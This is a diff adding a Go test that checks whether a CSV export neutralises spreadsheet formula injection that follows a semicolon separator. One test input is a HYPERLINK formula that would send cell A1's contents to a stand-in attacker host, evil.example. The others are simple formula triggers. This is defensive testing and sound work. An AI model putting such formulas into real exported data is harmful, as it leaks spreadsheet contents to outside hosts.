@@ -106,6 +106,37 @@ func TestExportCSVNeutralisesFormulaInjection(t *testing.T) {
 	}
 }
 
+// A spreadsheet set to a semicolon list separator (Excel in most of Europe)
+// splits a CSV line at every ';', quoted or not, so a text cell "x;=f()"
+// puts "=f()" at the start of a cell of its own, which it evaluates.
+func TestExportCSVNeutralisesAFormulaAfterASemicolon(t *testing.T) {
+	e := startEnv(t, Config{})
+	cases := []struct{ in, want string }{
+		{`ok;=HYPERLINK("http://evil.example/?"&A1,"x")`, `ok;'=HYPERLINK("http://evil.example/?"&A1,"x")`},
+		{"a;+1;-2;@SUM(A1);\t=1", "a;'+1;'-2;'@SUM(A1);'\t=1"},
+		{"=1;=2", "'=1;'=2"},
+		{"a; =1", "a; =1"}, // a cell starting with a space is text
+		{"a;b;", "a;b;"},
+	}
+	ops := make([]string, 0, len(cases))
+	for i, c := range cases {
+		b, _ := json.Marshal(map[string]any{"key": "k" + string(rune('a'+i)), "row": map[string]any{"v": c.in}})
+		ops = append(ops, string(b))
+	}
+	e.publish(t, "sv.semi.config", `{"type":"table","columns":["v"]}`)
+	e.publishAndWait(t, "sv.semi.data", `{"ops":[`+strings.Join(ops, ",")+`]}`)
+	_, body := do(t, http.DefaultClient, "GET", e.url("/api/widgets/semi/data.csv"), nil)
+	recs := readCSV(t, body)
+	if len(recs) != 1+len(cases) {
+		t.Fatalf("%d records, want %d:\n%s", len(recs), 1+len(cases), body)
+	}
+	for i, c := range cases {
+		if got := recs[1+i][1]; got != c.want {
+			t.Errorf("cell %q exported as %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
 func TestExportJSONEqualsTheWidgetAPI(t *testing.T) {
 	e := startEnv(t, Config{})
 	e.publish(t, "sv.t.data", `{"key":"a","row":{"n":1}}`)
